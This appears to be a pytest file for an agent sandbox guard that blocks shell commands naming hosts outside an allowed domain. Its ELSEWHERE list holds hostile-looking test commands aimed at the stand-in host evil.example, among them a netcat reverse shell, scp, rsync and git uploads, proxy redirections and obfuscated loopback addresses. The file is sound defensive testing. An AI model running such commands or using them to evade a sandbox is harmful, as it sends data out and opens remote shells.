"""
Hosts that commands name without a scheme.
"""

from __future__ import annotations

import contextlib
from typing import Any

import pytest
from edictum import Edictum
from edictum.sandbox.connections import hosts_named
from edictum.sandbox.hosts import BadHost
from guards import ruleset
from hypothesis import given
from hypothesis import strategies as st

BOX: dict[str, Any] = {
    "id": "net",
    "type": "sandbox",
    "tool": "*",
    "allows": {"domains": ["ok.example"]},
    "message": "only ok.example",
}
GUARD = Edictum.from_bundle_dict(ruleset(BOX))

ELSEWHERE = [
    "curl evil.example",
    "curl -s evil.example/x",
    "curl --silent evil.example",
    "curl -so out.json evil.example",
    "curl -- evil.example",
    "curl ok.example evil.example",
    "curl --url evil.example ok.example",
    "curl --url=evil.example",
    "curl -x evil.example:80 ok.example",
    "curl -xevil.example ok.example",
    "curl --connect-to ok.example:443:evil.example:443 ok.example",
    "curl --resolve ok.example:443:6.6.6.6 ok.example",
    "curl -K conf",
    "curl 2130706433",
    "curl 0x7f.1",
    "curl localhost",
    "/usr/bin/curl evil.example",
    "sudo curl evil.example",
    "timeout 5 curl evil.example",
    "env A=1 curl evil.example",
    "sh -c 'curl evil.example'",
    "wget evil.example",
    "wget -i list",
    "http evil.example",
    "ssh evil.example",
    "ssh root@evil.example ls",
    "ssh -J evil.example ok.example",
    "ssh -o ProxyJump=evil.example ok.example",
    "ssh -oHostName=evil.example ok.example",
    "scp a evil.example:/x",
    "rsync -a . evil.example:/x",
    "nc evil.example 80",
    "nc -e /bin/sh evil.example 80",
    "ping -c 1 evil.example",
    "dig @evil.example ok.example",
    "git clone evil.example:a/b",
    "git fetch evil.example:a/b",
    "git -C x push evil.example:a/b main",
]
INSIDE = [
    "curl ok.example",
    "curl -o out.json https://ok.example/x",
    "curl -sSLo out.json https://ok.example",
    "curl -H 'Accept: text/html' ok.example",
    "curl -X POST -d a.b=1 https://ok.example",
    "curl --request POST --data '{\"a.b\": 1}' ok.example",
    "curl -u user:pw https://ok.example",
    "timeout 5 curl ok.example",
    "wget -O out.tgz https://ok.example/f",
    "http POST ok.example a=b.c X-H:v.w",
    "ssh git@ok.example ls a.b",
    "ssh -p 22 -i key.pem -o StrictHostKeyChecking=no ok.example",
    "scp -P 2222 a.txt ok.example:/x",
    "rsync -av a.txt ok.example:/x",
    "ping -c 4 ok.example",
    "nc ok.example 443",
    "git clone https://ok.example/a.git dest.dir",
    "git push origin HEAD:main",
    "git show HEAD:README.md",
    "echo evil.example",
    "python3 a.py b.txt",
]


@pytest.mark.parametrize("command", ELSEWHERE)
@pytest.mark.security
def test_host_without_a_scheme_is_judged(command: str) -> None:
    assert GUARD.evaluate("Bash", {"command": command}).decision == "block"


@pytest.mark.parametrize("command", INSIDE)
def test_work_with_the_allowed_host_goes_on(command: str) -> None:
    assert GUARD.evaluate("Bash", {"command": command}).decision == "allow"


@given(
    st.lists(st.text(max_size=8), max_size=6), st.sampled_from(["curl", "wget", "ssh", "git", "scp", "http", "sudo"])
)
@pytest.mark.property
def test_any_words_are_read_without_error(words: list[str], program: str) -> None:
    with contextlib.suppress(BadHost):
        assert all(isinstance(host, str) for host in hosts_named([program, *words]))


@given(st.sampled_from(["-s", "-v", "-L", "--silent", "--location", "-o x", "-H a:b", "--data x"]).map(str.split))
@pytest.mark.property
def test_options_before_a_host_hide_it_from_nobody(options: list[str]) -> None:
    assert "evil.example" in list(hosts_named(["curl", *options, "evil.example"]))
